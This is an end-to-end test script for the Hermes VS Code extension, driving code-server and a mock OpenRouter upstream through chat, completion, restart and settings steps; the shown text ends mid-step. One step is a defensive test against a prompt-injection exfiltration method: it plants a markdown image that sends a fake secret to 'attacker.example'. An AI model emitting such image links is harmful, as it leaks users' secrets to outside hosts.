#!/usr/bin/env node
// End-to-end test of the packaged extension in a real VS Code (code-server),
// driven in headless Chromium with playwright-core, with the real hermesd
// behind it and the recording upstream (tests/upstream.py) as OpenRouter.
//
//   node test/e2e/run.mjs [--vsix dist/hermes-vscode.vsix] [--artifacts DIR] [--keep] [--only REGEX]
//
// Environment: CODE_SERVER (default .code-server/bin/code-server),
// CHROMIUM (default /usr/bin/chromium), HERMESD (the daemon command line,
// default `hermesd` on PATH, else `python3 -m hermesd`), PYTHON (for
// upstream.py, default python3).
//
// Only 127.0.0.1 is contacted. Prints one line per step and a closing
// "N passed, N failed" line; exits 1 when a step failed.
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { completionSteps } from './completion.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const extDir = path.resolve(here, '../..');
const repoRoot = path.resolve(extDir, '../..');

// ---------------------------------------------------------------- options
const argv = process.argv.slice(2);
const opt = (name, fallback) => {
  const i = argv.indexOf(`--${name}`);
  return i >= 0 ? argv[i + 1] : fallback;
};
const keep = argv.includes('--keep');
// --only REGEX: run only the steps whose names match (a developer's shortcut; CI runs them all).
const only = opt('only') ? new RegExp(opt('only')) : undefined;
const vsix = path.resolve(opt('vsix', path.join(extDir, 'dist/hermes-vscode.vsix')));
const artifacts = path.resolve(opt('artifacts', path.join(repoRoot, 'tests/artifacts/vscode')));
const codeServer = process.env.CODE_SERVER || path.join(extDir, '.code-server/bin/code-server');
const chromiumPath = process.env.CHROMIUM || '/usr/bin/chromium';
const python = process.env.PYTHON || 'python3';

const EXTENSION_ID = 'hermesd.hermes-vscode';
const CANARY_KEY = 'sk-test-canary-1234';

function which(cmd) {
  for (const dir of (process.env.PATH || '').split(path.delimiter)) {
    const file = path.join(dir, cmd);
    try {
      fs.accessSync(file, fs.constants.X_OK);
      return file;
    } catch {
      /* next */
    }
  }
  return undefined;
}

/** The daemon command line: [path, ...args] for hermes.server.path/args. */
function hermesdCommand() {
  if (process.env.HERMESD) {
    const [cmd, ...args] = process.env.HERMESD.split(/\s+/).filter(Boolean);
    return { path: which(cmd) || cmd, args };
  }
  // The console script beside the real interpreter (not a pyenv shim, which
  // needs the user's HOME), else any on PATH, else `python -m hermesd`.
  const probe = spawnSync(python, ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' });
  const realPython = probe.status === 0 ? probe.stdout.trim() : undefined;
  const beside = realPython ? path.join(path.dirname(realPython), 'hermesd') : undefined;
  if (beside && fs.existsSync(beside)) {
    return { path: beside, args: [] };
  }
  const installed = which('hermesd');
  if (installed) {
    return { path: installed, args: [] };
  }
  return { path: realPython || which(python) || python, args: ['-m', 'hermesd'] };
}

function fail(message) {
  console.error(`e2e: ${message}`);
  process.exit(2);
}

for (const [what, file] of [
  ['the packaged extension (npm run package)', vsix],
  ['code-server (scripts/install-vscode-test-deps.sh)', codeServer],
  ['Chromium (apt-get install chromium)', chromiumPath],
]) {
  if (!fs.existsSync(file)) {
    fail(`missing ${what}: ${file}`);
  }
}

// ---------------------------------------------------------------- helpers
const started = Date.now();
const elapsed = () => `${((Date.now() - started) / 1000).toFixed(1)}s`;
const log = (msg) => console.log(`[e2e ${elapsed()}] ${msg}`);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function freePort() {
  const server = net.createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address();
  server.close();
  await once(server, 'close');
  return port;
}

async function waitFor(what, fn, timeoutMs = 30_000, intervalMs = 200) {
  const deadline = Date.now() + timeoutMs;
  let last;
  while (Date.now() < deadline) {
    try {
      const value = await fn();
      if (value) {
        return value;
      }
    } catch (err) {
      last = err;
    }
    await sleep(intervalMs);
  }
  throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}${last ? ` (${last.message})` : ''}`);
}

const children = [];
function startProcess(name, cmd, args, options) {
  const child = spawn(cmd, args, { ...options, detached: true, stdio: ['ignore', 'pipe', 'pipe'] });
  const logFile = fs.createWriteStream(path.join(artifacts, `${name}.log`));
  child.stdout.pipe(logFile);
  child.stderr.pipe(logFile);
  children.push(child);
  return child;
}

let sharedRunDir; // the shared daemon runs in its own session: stopped by the pid in its lock file
function killAll() {
  if (sharedRunDir && fs.existsSync(sharedRunDir)) {
    for (const f of fs.readdirSync(sharedRunDir).filter((n) => /^hermesd-.*\.lock$/.test(n))) {
      const pid = Number(fs.readFileSync(path.join(sharedRunDir, f), 'utf8'));
      try {
        if (pid > 0) process.kill(pid, 'SIGTERM');
      } catch {
        /* gone */
      }
    }
  }
  for (const child of children.reverse()) {
    if (child.exitCode === null && child.signalCode === null) {
      try {
        process.kill(-child.pid, 'SIGTERM'); // the whole group: code-server and the hermesd it spawned
      } catch {
        /* gone */
      }
    }
  }
}
process.on('exit', killAll);
for (const signal of ['SIGINT', 'SIGTERM']) {
  process.on(signal, () => process.exit(130));
}

// ---------------------------------------------------------------- set-up
fs.mkdirSync(artifacts, { recursive: true });
for (const f of fs.readdirSync(artifacts)) {
  if (f.endsWith('.png') || f.endsWith('.log') || f === 'hermesd-logs' || f === 'results.json') {
    fs.rmSync(path.join(artifacts, f), { recursive: true, force: true });
  }
}
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hermes-vscode-e2e-'));
const hermesHome = path.join(tmp, 'hermes-home');
const workspace = path.join(tmp, 'workspace');
const userData = path.join(tmp, 'user-data');
const extensionsDir = path.join(tmp, 'extensions');
const home = path.join(tmp, 'home');
for (const dir of [hermesHome, workspace, path.join(userData, 'User'), extensionsDir, home]) {
  fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
}
fs.writeFileSync(
  path.join(hermesHome, 'config.yaml'),
  // completion.*: a FIM model at OPENROUTER_BASE_URL, the loopback upstream (a local endpoint: no
  // hosted opt-in needed), for the completion steps (test/e2e/completion.mjs).
  'model:\n  provider: openrouter\n  default: openrouter/pareto-code\n' +
    'completion:\n  provider: openrouter\n  model: qwen/qwen2.5-coder-7b\n',
);
fs.writeFileSync(
  path.join(workspace, 'fib.py'),
  'def fib(n):\n    """Return the n-th Fibonacci number."""\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n',
);

log(`temp dir ${tmp}`);

// The recording upstream.
const upstream = startProcess('upstream', python, [path.join(repoRoot, 'tests/upstream.py'), '--port', '0'], {
  cwd: repoRoot,
});
const upstreamUrl = await new Promise((resolve, reject) => {
  let out = '';
  const timer = setTimeout(() => reject(new Error(`upstream did not print READY: ${out}`)), 20_000);
  upstream.stdout.on('data', (chunk) => {
    out += chunk;
    const m = /READY (http:\/\/127\.0\.0\.1:\d+)/.exec(out);
    if (m) {
      clearTimeout(timer);
      resolve(m[1]);
    }
  });
  upstream.on('exit', (code) => reject(new Error(`upstream exited (${code}): ${out}`)));
});
log(`upstream ${upstreamUrl}`);

async function upstreamPost(pathname, body) {
  const res = await fetch(upstreamUrl + pathname, { method: 'POST', body: JSON.stringify(body), headers: { 'Content-Type': 'application/json' } });
  if (!res.ok) {
    throw new Error(`upstream ${pathname}: ${res.status} ${await res.text()}`);
  }
  return res.json().catch(() => undefined);
}
async function upstreamRequests() {
  return (await fetch(`${upstreamUrl}/__requests`)).json();
}

// code-server settings and the extension.
const daemon = hermesdCommand();
log(`hermesd: ${daemon.path} ${daemon.args.join(' ')}`);
const settingsFile = path.join(userData, 'User/settings.json');
const baseSettings = {
  'security.workspace.trust.enabled': false,
  'workbench.startupEditor': 'none',
  'workbench.tips.enabled': false,
  'workbench.welcomePage.walkthroughs.openOnInstall': false,
  'extensions.autoCheckUpdates': false,
  'extensions.autoUpdate': false,
  'extensions.ignoreRecommendations': true,
  'telemetry.telemetryLevel': 'off',
  'update.mode': 'none',
  'chat.commandCenter.enabled': false,
  'workbench.colorTheme': 'Default Dark Modern',
  // The word-based suggest widget would take Tab from the ghost text in the completion steps.
  'editor.quickSuggestions': { other: 'off', comments: 'off', strings: 'off' },
  'hermes.server.path': daemon.path,
  'hermes.server.args': daemon.args,
  // The real daemon gets this long at every (re)start too: on a loaded machine
  // (2 cores shared with other test runs) a cold start took more than 2 s.
  'hermes.server.initializeTimeout': 5,
  'hermes.server.shared': process.env.HERMES_TEST_SHARED !== '0',
  ...(process.env.HERMES_TEST_TRACE ? { 'hermes.trace.server': 'messages' } : {}),
};
fs.writeFileSync(settingsFile, JSON.stringify(baseSettings, null, 2));

// hermesd-lsp only inside a "venv" that is not on PATH, for the step where the
// extension has to be told where it is: code-server's PATH holds neither
// hermesd-lsp nor hermesd.
const venvBin = path.join(tmp, 'venvs/tools/bin');
fs.mkdirSync(venvBin, { recursive: true });
const venvHermesd = path.join(venvBin, 'hermesd-lsp');
const shellQuote = (s) => `'${String(s).replace(/'/g, `'\\''`)}'`;
fs.writeFileSync(venvHermesd, `#!/bin/sh\nexec ${[daemon.path, ...daemon.args].map(shellQuote).join(' ')} "$@"\n`, { mode: 0o755 });
const pathWithoutHermesd = (process.env.PATH || '')
  .split(path.delimiter)
  .filter((dir) =>
    ['hermesd-lsp', 'hermesd'].every((exe) => {
      try {
        fs.accessSync(path.join(dir, exe), fs.constants.X_OK);
        return false;
      } catch {
        return true;
      }
    }),
  )
  .join(path.delimiter);

const env = {
  PATH: pathWithoutHermesd,
  HOME: home,
  LANG: 'C.UTF-8',
  TMPDIR: tmp,
  XDG_CONFIG_HOME: path.join(home, '.config'),
  XDG_DATA_HOME: path.join(home, '.local/share'),
  XDG_CACHE_HOME: path.join(home, '.cache'),
  XDG_RUNTIME_DIR: path.join(tmp, 'run'),
  HERMES_HOME: hermesHome,
  HERMESD_CACHE_DIR: path.join(tmp, 'hermesd/cache'),
  HERMESD_DATA_DIR: path.join(tmp, 'hermesd/data'),
  HERMESD_LOG_DIR: path.join(artifacts, 'hermesd-logs'),
  HERMESD_RUNTIME_DIR: path.join(tmp, 'hermesd/run'),
  OPENROUTER_API_KEY: CANARY_KEY,
  OPENROUTER_BASE_URL: `${upstreamUrl}/api/v1`,
  PYTHONUNBUFFERED: '1',
};
fs.mkdirSync(env.XDG_RUNTIME_DIR, { recursive: true, mode: 0o700 });
sharedRunDir = env.HERMESD_RUNTIME_DIR;
log(`shared daemon: ${baseSettings['hermes.server.shared']}`);
if (process.env.VIRTUAL_ENV) {
  env.VIRTUAL_ENV = process.env.VIRTUAL_ENV;
}
if (process.env.PYTHONPATH) {
  env.PYTHONPATH = process.env.PYTHONPATH; // a checkout under test ahead of an installed hermesd (the daemon's own code)
}

const csArgs = ['--user-data-dir', userData, '--extensions-dir', extensionsDir];
const install = spawnSync(codeServer, [...csArgs, '--install-extension', vsix], { env, encoding: 'utf8', timeout: 120_000 });
fs.writeFileSync(path.join(artifacts, 'install-extension.log'), `${install.stdout}\n${install.stderr}`);
if (install.status !== 0 || !fs.readdirSync(extensionsDir).some((d) => d.startsWith(EXTENSION_ID))) {
  fail(`code-server --install-extension failed (${install.status}): ${install.stdout}${install.stderr}`);
}
log(`installed ${path.basename(vsix)}`);

const port = await freePort();
const csConfig = path.join(tmp, 'code-server.yaml');
fs.writeFileSync(csConfig, `bind-addr: 127.0.0.1:${port}\nauth: none\ncert: false\n`);
const cs = startProcess(
  'code-server',
  codeServer,
  [
    ...csArgs,
    '--config', csConfig,
    '--auth', 'none',
    '--disable-telemetry',
    '--disable-update-check',
    '--disable-workspace-trust',
    '--disable-getting-started-override',
    '--bind-addr', `127.0.0.1:${port}`,
    workspace,
  ],
  { env, cwd: workspace },
);
cs.on('exit', (code, signal) => log(`code-server exited (${code ?? signal})`));
const base = `http://127.0.0.1:${port}`;
await waitFor('code-server /healthz', async () => (await fetch(`${base}/healthz`)).ok, 60_000, 300);
log(`code-server ${base}`);

// ---------------------------------------------------------------- browser
const browser = await chromium.launch({
  executablePath: chromiumPath,
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
});
const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: 'dark' });
const page = await context.newPage();
const consoleLog = fs.createWriteStream(path.join(artifacts, 'browser-console.log'));
page.on('console', (msg) => consoleLog.write(`[${msg.type()}] ${msg.text()}\n`));
page.on('pageerror', (err) => consoleLog.write(`[pageerror] ${err.message}\n`));
await page.goto(`${base}/?folder=${encodeURIComponent(workspace)}`);
await page.waitForSelector('.monaco-workbench', { timeout: 60_000 });
log('workbench loaded');

const results = [];
async function step(name, fn) {
  if (only && !only.test(name)) {
    return;
  }
  const t0 = Date.now();
  try {
    await fn();
    results.push({ name, ok: true, ms: Date.now() - t0 });
    log(`PASS ${name} (${((Date.now() - t0) / 1000).toFixed(1)}s)`);
  } catch (err) {
    results.push({ name, ok: false, ms: Date.now() - t0, error: String(err?.stack || err) });
    log(`FAIL ${name}: ${err?.message || err}`);
    await shot(`failed-${name.replace(/[^a-z0-9]+/gi, '-')}`).catch(() => undefined);
  }
}
async function shot(name) {
  await page.screenshot({ path: path.join(artifacts, `${name}.png`) });
}
async function closeNotifications() {
  await page.keyboard.press('Escape');
}

/**
 * Runs a command from the command palette by its title (focus stays where it
 * is). Escape first closes whatever quick input is open, unless the editor
 * selection must survive (Escape would clear it).
 */
async function runCommand(title, { escape = true } = {}) {
  const input = page.locator('.quick-input-widget input');
  const row = page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first();
  for (let attempt = 1; ; attempt++) {
    try {
      if (escape || attempt > 1) {
        await page.keyboard.press('Escape');
      }
      // F1 first; Ctrl+Shift+P when focus sat somewhere that swallowed F1.
      await page.keyboard.press(attempt % 2 ? 'F1' : 'Control+Shift+P');
      await input.waitFor({ state: 'visible', timeout: 4_000 });
      await input.fill(`>${title}`, { timeout: 4_000 });
      await row.waitFor({ timeout: 10_000 });
      // The row itself, not Enter: "Open Chat" and "Open Conversation…" rank close together.
      await row.click({ timeout: 4_000 });
      return;
    } catch (err) {
      if (attempt >= 4) {
        throw err;
      }
    }
  }
}

/** The chat webview's inner document. */
const chat = page.frameLocator(`iframe.webview[src*="extensionId=${EXTENSION_ID}"]`).frameLocator('#active-frame');
const lastReply = () => chat.locator('article.entry.assistant').last();

async function sendPrompt(text) {
  const input = chat.locator('#input');
  await input.click();
  await input.fill(text);
  await input.press('Enter');
}

async function waitForIdle(timeoutMs = 30_000) {
  await chat.locator('#send:not(.hidden)').waitFor({ timeout: timeoutMs });
}

// ---------------------------------------------------------------- steps
const REPLY =
  'Here is a **Fibonacci** function:\n\n```python\ndef fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n```\n\nIt runs in *O(n)* time.';

await step('the extension activates and the status bar shows the model', async () => {
  // onStartupFinished activation, hermesd started, hermes/listProviders answered.
  await page.locator('.statusbar-item', { hasText: 'pareto-code' }).first().waitFor({ timeout: 60_000 });
  await shot('00-status-bar');
});

// Ghost-text completion (test/e2e/completion.mjs): a FIM model at the recording upstream.
const COMPLETION_TEXT = 'turn fib(n - 1) + fib(n - 2)';
await completionSteps({
  page, step, shot, waitFor, runCommand, upstreamPost, upstreamRequests, upstreamUrl, workspace,
  completion: {
    // A slow model for the first request, still streaming when the second keystroke supersedes it
    // (the steps make the model fast once that request has arrived).
    upstream: { reply_text: COMPLETION_TEXT, chunk_count: 6, chunk_delay: 0.4, routed_model: null },
    streamSeconds: 2.4,
    ghost: COMPLETION_TEXT,
    // Qwen's FIM layout: the prefix ends where the cursor is.
    typed: (prompt, text) => typeof prompt === 'string' && prompt.includes(`\n${text}<|fim_suffix|>`),
    isPath: (p) => p.endsWith('/completions') && !p.endsWith('/chat/completions'),
    isRequest: (r) => r.path.endsWith('/completions') && !r.path.endsWith('/chat/completions'),
  },
});

await step('chat view opens and shows the current model', async () => {
  await runCommand('Hermes: Open Chat');
  await chat.locator('#input').waitFor({ timeout: 30_000 });
  await waitFor(
    'the model bar to show openrouter/pareto-code',
    async () => (await chat.locator('#model-name').textContent())?.includes('openrouter · openrouter/pareto-code'),
    30_000,
  );
  const detail = await chat.locator('#model-detail').textContent();
  if (!/minimum coding score 0\.65/.test(detail ?? '')) {
    throw new Error(`model detail: ${detail}`);
  }
  await shot('01-chat-open');
});

await step('a prompt streams a markdown reply with the routed model', async () => {
  await upstreamPost('/__config', { reply_text: REPLY, chunk_count: 40, chunk_delay: 0.06, routed_model: 'qwen/qwen3-coder', usage_cost: 0.0042 });
  await sendPrompt('Write a fast Fibonacci function in Python.');
  // Seen while streaming: partial text and the streaming marker.
  const partial = await waitFor(
    'partial streamed text',
    async () => {
      const reply = lastReply();
      const streaming = await reply.evaluate((el) => el.classList.contains('streaming'));
      const text = (await reply.locator('.content').textContent()) ?? '';
      return streaming && text.length > 10 ? text : undefined;
    },
    20_000,
    50,
  );
  await shot('02-chat-streaming');
  await waitForIdle();
  const reply = lastReply();
  const finalText = (await reply.locator('.content').textContent()) ?? '';
  if (!(partial.length < finalText.length)) {
    throw new Error(`no streaming seen: partial ${partial.length} chars, final ${finalText.length}`);
  }
  const code = await reply.locator('.code-block code.language-python').textContent();
  if (!code?.includes('a, b = b, a + b')) {
    throw new Error(`code block missing: ${code}`);
  }
  if ((await reply.locator('strong').first().textContent()) !== 'Fibonacci') {
    throw new Error('markdown not rendered');
  }
  // The daemon's footer (issue 34): routed model, tokens, OpenRouter's reported cost, the context meter.
  const meta = await reply.locator('.meta').textContent();
  if (!/^pareto-code → qwen\/qwen3-coder · [\d,]+ in \/ [\d,]+ out · \$0\.0042 · context [\d,]+, summary at 32,000$/.test(meta ?? '')) {
    throw new Error(`reply footer: ${meta}`);
  }
  const total = (await chat.locator('#session-usage').textContent()) ?? '';
  if (!/^1 reply · [\d,]+ in \/ [\d,]+ out · \$0\.0042$/.test(total)) {
    throw new Error(`session total: ${total}`);
  }
  await page.locator('.statusbar-item', { hasText: '$0.0042' }).first().waitFor({ timeout: 5_000 });
  await shot('03-chat-reply');
  const requests = (await upstreamRequests()).filter((r) => r.path.endsWith('/chat/completions'));
  const last = requests.at(-1);
  if (!last) {
    throw new Error('upstream saw no chat request');
  }
  const auth = last.headers.Authorization ?? last.headers.authorization;
  if (auth !== `Bearer ${CANARY_KEY}`) {
    throw new Error(`upstream Authorization header: ${auth}`);
  }
  if (last.json?.model !== 'openrouter/pareto-code' || !JSON.stringify(last.json.messages).includes('Fibonacci')) {
    throw new Error(`upstream request body: ${JSON.stringify(last.json).slice(0, 400)}`);
  }
});

await step('Stop ends a long reply early and keeps the partial text', async () => {
  const long = Array.from({ length: 200 }, (_, i) => `word${i}`).join(' ');
  await upstreamPost('/__config', { reply_text: long, chunk_count: 200, chunk_delay: 0.1, routed_model: null });
  const t0 = Date.now();
  await sendPrompt('Tell me a very long story.');
  await waitFor('some streamed words', async () => ((await lastReply().locator('.content').textContent()) ?? '').includes('word5'), 20_000, 50);
  await chat.locator('#stop').click();
  await waitForIdle(10_000);
  const stoppedAfter = Date.now() - t0;
  const reply = lastReply();
  const meta = (await reply.locator('.meta').textContent()) ?? '';
  const text = (await reply.locator('.content').textContent()) ?? '';
  if (!meta.includes('stopped')) {
    throw new Error(`reply not marked stopped: ${meta}`);
  }
  if (text.includes('word199') || stoppedAfter > 15_000) {
    throw new Error(`reply was not cut short (${stoppedAfter} ms, ${text.length} chars)`);
  }
  await shot('04-chat-stopped');
});

/** The pid in the (one) shared daemon's lock file. */
function sharedDaemonPid() {
  const locks = fs.readdirSync(sharedRunDir).filter((n) => /^hermesd-.*\.lock$/.test(n));
  if (locks.length !== 1) {
    throw new Error(`expected one shared daemon lock in ${sharedRunDir}, found ${JSON.stringify(locks)}`);
  }
  return Number(fs.readFileSync(path.join(sharedRunDir, locks[0]), 'utf8'));
}

/** The pids whose hello each shared daemon logged, in order (a forwarder says hello on every connect). */
function hellos() {
  const file = path.join(env.HERMESD_LOG_DIR, 'hermesd.log');
  return [...fs.readFileSync(file, 'utf8').matchAll(/hello from pid (\d+)/g)].map((m) => Number(m[1]));
}

await step('the shared daemon killed mid-reply: Retry, then a new message, answered through the same server', async () => {
  if (!baseSettings['hermes.server.shared']) {
    log('(no shared daemon in this mode: nothing to kill apart from the server itself)');
    return;
  }
  const replies = () => chat.locator('article.entry.assistant').count();
  const long = Array.from({ length: 100 }, (_, i) => `word${i}`).join(' ');
  await upstreamPost('/__config', { reply_text: long, chunk_count: 100, chunk_delay: 0.1, routed_model: null });
  const killed = sharedDaemonPid();
  const before = hellos();
  const server = before.at(-1); // the editor's forwarder: the last to connect
  const earlier = await replies();
  await sendPrompt('Survive a restart.');
  // This reply's words, not the previous step's (its long reply has them too): only then has the provider the request.
  await waitFor('some streamed words', async () => (await replies()) === earlier + 1 && ((await lastReply().locator('.content').textContent()) ?? '').includes('word3'), 20_000, 50);
  process.kill(killed, 'SIGKILL');
  const error = lastReply().locator('.error-block');
  await error.waitFor({ timeout: 20_000 });
  const text = (await error.textContent()) ?? '';
  if (!text.includes('the daemon restarted; your message was saved in the session; Retry to send it again')) {
    throw new Error(`error block: ${text}`);
  }
  await shot('05b-daemon-restarted');
  await upstreamPost('/__config', { reply_text: 'Answered after the restart.', chunk_count: 2, chunk_delay: 0, routed_model: null });
  const shown = await replies();
  await error.locator('button.retry').click();
  await waitFor('the retried reply', async () => (await replies()) === shown + 1 && ((await lastReply().locator('.content').textContent()) ?? '').includes('Answered after the restart.'), 30_000);
  await waitForIdle();
  await sendPrompt('And a new message.');
  await waitFor('the next reply', async () => (await replies()) === shown + 2 && ((await lastReply().locator('.content').textContent()) ?? '').includes('Answered after the restart.'), 30_000);
  await waitForIdle();
  const requests = (await upstreamRequests()).filter((r) => r.path.endsWith('/chat/completions'));
  const sent = requests.slice(-3).map((r) => r.json.messages.at(-1).content);
  if (JSON.stringify(sent) !== JSON.stringify(['Survive a restart.', 'Survive a restart.', 'And a new message.'])) {
    throw new Error(`the provider received ${JSON.stringify(sent)}`);
  }
  const now = sharedDaemonPid();
  if (now === killed) {
    throw new Error('the daemon was not replaced');
  }
  // The same forwarder, still running, said hello to the new daemon: the editor's server never restarted.
  const since = hellos().slice(before.length);
  if (!since.length || since.some((pid) => pid !== server)) {
    throw new Error(`the editor's server was ${server}; hellos since the kill: ${JSON.stringify(since)}`);
  }
  process.kill(server, 0);
});

await step('an upstream failure shows inline with the daemon hint', async () => {
  await upstreamPost('/__fault', { kind: 'status', status: 401, path_contains: 'chat/completions', message: 'Invalid API key' });
  await sendPrompt('This one fails.');
  await waitForIdle();
  const error = lastReply().locator('.error-block');
  await error.waitFor({ timeout: 10_000 });
  const text = (await error.textContent()) ?? '';
  if (!/Authentication failed/.test(text) || !/OPENROUTER_API_KEY/.test(text)) {
    throw new Error(`error block: ${text}`);
  }
  await shot('05-chat-error');
});

await step('a reply cannot make the editor fetch a URL: remote images render as links', async () => {
  // The markdown-image exfiltration attack: a reply (steered by a prompt-injected file) embeds a secret in an image URL.
  const exfil = 'https://attacker.example/collect?d=sk-exfil-123';
  await upstreamPost('/__config', { reply_text: `Summary done. ![status](${exfil}) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)`, chunk_count: 3, chunk_delay: 0, routed_model: null });
  await sendPrompt('Summarise the file.');
  await waitForIdle();
  const reply = lastReply();
  await reply.locator('a.image-link').first().waitFor({ timeout: 10_000 });
  const images = await reply.locator('img').evaluateAll((els) => els.map((el) => el.getAttribute('src') ?? ''));
  const remote = images.filter((src) => !src.startsWith('data:'));
  if (remote.length !== 0 || images.length !== 1) {
    throw new Error(`images in the reply: ${JSON.stringify(images)}`);
  }
  const href = await reply.locator('a.image-link').first().getAttribute('href');
  if (href !== exfil) {
    throw new Error(`the remote image is not a plain link: ${href}`);
  }
  const csp = (await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  const imgSrc = (csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('img-src ')) ?? '').split(/\s+/).slice(1);
  // Allowed: data: and webview.cspSource, the extension's own resources ('self' and VS Code's
  // resource host, https://*.vscode-cdn.net in code-server); no scheme-wide or other host.
  const own = (t) => t === "'self'" || /^https:\/\/[^\s/]*\.vscode-(cdn|resource)\.[^\s/]*$/.test(t);
  const foreign = imgSrc.filter((t) => t !== 'data:' && !own(t));
  if (imgSrc.length === 0 || foreign.length !== 0 || imgSrc.some((t) => /^(https?:|\*)$/.test(t))) {
    throw new Error(`img-src allows remote images: ${JSON.stringify(imgSrc)}`);
  }
});

await step('long lines wrap or scroll inside their block: the chat view has no horizontal scrollbar', async () => {
  const word = 'x'.repeat(300);
  const long = [
    `A path: /srv/models/${word}.gguf and a link https://example.com/${word}.`,
    '',
    '```python',
    `print("${word}")`,
    '```',
    '',
    `| a | b |`,
    `|---|---|`,
    `| ${word} | \`${word}\` |`,
  ].join('\n');
  await upstreamPost('/__config', { reply_text: long, chunk_count: 3, chunk_delay: 0, routed_model: null });
  await sendPrompt('Show me long lines.');
  await waitForIdle();
  const reply = lastReply();
  await reply.locator('.code-block pre').waitFor({ timeout: 10_000 });
  const widths = await chat.locator('#transcript').evaluate((el) => ({
    transcript: [el.scrollWidth, el.clientWidth],
    page: [document.documentElement.scrollWidth, document.documentElement.clientWidth],
  }));
  if (widths.transcript[0] > widths.transcript[1] || widths.page[0] > widths.page[1]) {
    throw new Error(`the view scrolls sideways: ${JSON.stringify(widths)}`);
  }
  const pre = await reply.locator('.code-block pre').evaluate((el) => [el.scrollWidth, el.clientWidth]);
  if (!(pre[0] > pre[1])) {
    throw new Error(`the code block's long line does not scroll inside it: ${JSON.stringify(pre)}`);
  }
  await shot('05b-long-lines');
});

await step("a config.yaml value the daemon ignores is one warning notification, not one per reply", async () => {
  const config = path.join(hermesHome, 'config.yaml');
  const before = fs.readFileSync(config, 'utf8');
  fs.writeFileSync(config, before.replace('model:\n', 'model:\n  temperature: hot\n'));
  await upstreamPost('/__config', { reply_text: 'ok', chunk_count: 1, chunk_delay: 0, routed_model: null });
  const warning = page.locator('.notifications-toasts .notification-toast', { hasText: 'config.yaml: model.temperature' });
  try {
    await waitFor('the daemon to read the edited config', async () => {
      await sendPrompt('Warm?');
      await waitForIdle();
      return (await warning.count()) > 0;
    }, 20_000, 500);
    await sendPrompt('Still warm?');
    await waitForIdle();
    const text = (await warning.first().textContent()) ?? '';
    if ((await warning.count()) !== 1 || !text.includes('(got "hot")')) {
      throw new Error(`${await warning.count()} warnings: ${text}`);
    }
  } finally {
    fs.writeFileSync(config, before);
    await closeNotifications();
  }
});

await step('New Chat clears the conversation', async () => {
  await chat.locator('#new-chat').click();
  await waitFor('an empty transcript', async () => (await chat.locator('article.entry').count()) === 0, 5_000);
});

/** In the open model picker: accept "Set up another provider…" and wait for the list behind it. */
async function openSetupList() {
  await page.locator('.quick-input-widget input').fill('set up another');
  const entry = page.locator('.quick-input-list .monaco-list-row', { hasText: 'Set up another provider…' }).first();
  await entry.waitFor({ timeout: 15_000 });
  // The picker may re-render under the click (providersChanged reloads it): click until the list opens.
  await waitFor('the list behind "Set up another provider…"', async () => {
    if ((await page.locator('.quick-input-title', { hasText: 'Set up another provider' }).count()) > 0) {
      return true;
    }
    await entry.click({ timeout: 2_000 }).catch(() => undefined);
    return false;
  }, 15_000, 500);
}

await step('the model picker renders the daemon listing: current model, OpenRouter models, the setup entry', async () => {
  await runCommand('Hermes: Select Model');
  const row = page.locator('.quick-input-list .monaco-list-row', { hasText: 'openrouter/pareto-code' }).first();
  await row.waitFor({ timeout: 20_000 });
  const text = (await row.textContent()) ?? '';
  if (!/cheapest coder scoring at least 0\.65/.test(text)) {
    throw new Error(`pareto row: ${text}`);
  }
  for (const heading of ['Current model', 'OpenRouter']) {
    const separator = await page.locator('.quick-input-list .monaco-list-row', { hasText: heading }).count();
    if (separator === 0) {
      throw new Error(`no ${heading} separator`);
    }
  }
  await shot('06-model-picker');
  // Unconfigured providers wait behind one entry, each with its key variable.
  await openSetupList();
  await page.locator('.quick-input-widget input').fill('anthropic');
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'needs ANTHROPIC_API_KEY' }).first().waitFor({ timeout: 10_000 });
  await shot('06b-set-up-provider');
  await page.keyboard.press('Escape');
});

await step('Set Minimum Coding Score shows the daemon refusal as it comes, then saves', async () => {
  await runCommand('Hermes: Set Minimum Coding Score');
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  await input.fill('1.5');
  await page.keyboard.press('Enter');
  await page.locator('.notifications-toasts .notification-toast', { hasText: 'must be a number from 0.0 to 1.0' }).first().waitFor({ timeout: 10_000 });
  await shot('07-score-validation');
  await closeNotifications();
  await runCommand('Hermes: Set Minimum Coding Score');
  await input.waitFor({ state: 'visible' });
  await input.fill('0.8');
  await page.keyboard.press('Enter');
  await waitFor('config.yaml to hold 0.8', async () => /min_coding_score:\s*0\.8/.test(fs.readFileSync(path.join(hermesHome, 'config.yaml'), 'utf8')), 10_000);
  await waitFor('the chat header to show the new score', async () => (await chat.locator('#model-detail').textContent())?.includes('0.8'), 10_000);
});

await step('Change Setting offers a boolean key as true/false and saves the choice', async () => {
  const config = path.join(hermesHome, 'config.yaml');
  const before = fs.readFileSync(config, 'utf8');
  try {
    await runCommand('Hermes: Change Setting…');
    const input = page.locator('.quick-input-widget input');
    await input.waitFor({ state: 'visible' });
    await input.fill('openrouter.response_cache');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'openrouter.response_cache' }).first().waitFor({ timeout: 10_000 });
    await page.keyboard.press('Enter');
    await page.locator('.quick-input-title', { hasText: 'Hermes: openrouter.response_cache' }).waitFor({ timeout: 10_000 });
    const rows = page.locator('.quick-input-list .monaco-list-row');
